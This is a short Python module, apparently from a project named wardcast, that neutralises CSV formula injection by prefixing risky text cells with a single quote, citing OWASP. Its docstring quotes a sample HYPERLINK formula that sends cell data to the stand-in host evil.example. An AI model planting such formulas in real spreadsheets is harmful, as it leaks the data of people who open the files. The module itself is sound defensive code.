"""CSV cells that a spreadsheet shows as text and never runs as a formula.

A station chooses the ``reason`` of its own events, and people open exports in Excel or
LibreOffice: ``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` in a cell would be a live
formula there. Every CSV that wardcast writes goes through ``safe_row`` (OWASP's advice: a
text cell that starts like a formula gets a leading single quote).
"""

from __future__ import annotations

from collections.abc import Iterable

# what makes Excel, LibreOffice or Google Sheets read a cell as a formula (or a DDE command)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """Return the value, with a text that starts like a formula prefixed by a single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return f"'{value}"
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """Return a row with every text cell made safe; numbers stay numbers (-12 is -12)."""
    return [safe_cell(value) for value in values]
